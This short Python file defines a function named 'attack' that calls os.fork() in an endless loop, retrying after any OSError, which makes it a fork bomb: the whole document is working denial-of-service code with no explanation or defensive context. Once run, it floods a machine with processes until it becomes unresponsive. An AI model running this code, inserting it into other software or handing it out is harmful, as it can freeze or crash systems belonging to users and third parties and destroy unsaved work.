import os
import time


def attack(args):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
